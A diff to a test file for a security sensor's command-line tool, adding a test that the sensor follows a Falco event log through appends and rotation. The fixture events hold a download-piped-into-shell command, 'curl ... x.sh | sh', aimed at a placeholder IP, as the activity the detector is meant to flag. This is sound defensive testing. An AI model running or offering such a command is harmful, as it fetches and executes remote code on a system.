@@ -1,5 +1,5 @@
 import { spawn } from 'node:child_process';
-import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { appendFileSync, mkdtempSync, renameSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
@@ -37,6 +37,36 @@ describe('palisade sensor (built CLI)', () => {
     expect(alerts[0]?.message).toBe("download piped into a shell in host on node-7: sh -c curl -s http://198.51.100.23/x.sh | sh [sh(4242)]");
     expect(JSON.parse(run.stderr.trim().split('\n').pop() ?? '{}').counters.skipped).toEqual({ 'falco: not JSON': 1 });
   });
+
+  it('follows a Falco output file: events appended while it runs, through a rotation, not the old ones', async () => {
+    const falco = join(dir, 'falco-follow.jsonl');
+    const event = (pid: number): string =>
+      `${JSON.stringify({ time: '2026-11-20T10:00:00Z', hostname: 'node-7', output_fields: { 'evt.type': 'execve', 'proc.name': 'sh', 'proc.pid': pid, 'proc.cmdline': 'sh -c curl -s http://198.51.100.23/x.sh | sh', 'proc.args': "-c 'curl -s http://198.51.100.23/x.sh | sh'", 'container.id': 'host' } })}\n`;
+    writeFileSync(falco, event(1001));
+    const sensor = spawn(process.execPath, [CLI, 'sensor', '--no-proc', '--falco', falco, '--group-window', '10ms'], { stdio: ['ignore', 'pipe', 'pipe'] });
+    let out = '';
+    let err = '';
+    sensor.stdout.on('data', (c: Buffer) => (out += c.toString()));
+    sensor.stderr.on('data', (c: Buffer) => (err += c.toString()));
+    const waitFor = async (text: string): Promise<void> => {
+      for (let i = 0; i < 300 && !out.includes(text) && !err.includes(text); i++) await new Promise((r) => setTimeout(r, 50));
+    };
+    try {
+      await waitFor('"sensor":"started"');
+      expect(err).toContain('"sensor":"started"');
+      appendFileSync(falco, event(1002));
+      await waitFor('sh(1002)');
+      renameSync(falco, `${falco}.1`);
+      writeFileSync(falco, event(1003));
+      await waitFor('sh(1003)');
+    } finally {
+      sensor.kill('SIGTERM');
+      await new Promise((r) => sensor.once('exit', r));
+    }
+    const pids = out.trim().split('\n').map((l) => alertLine.parse(JSON.parse(l)).message.match(/sh\((\d+)\)/)?.[1]);
+    expect(pids).toEqual(['1002', '1003']);
+    expect(sensor.exitCode).toBe(0);
+  }, 40_000);
 
   it('polls /proc and prints an alert for a miner started after it, within a second', async () => {
     const p = new Processes();
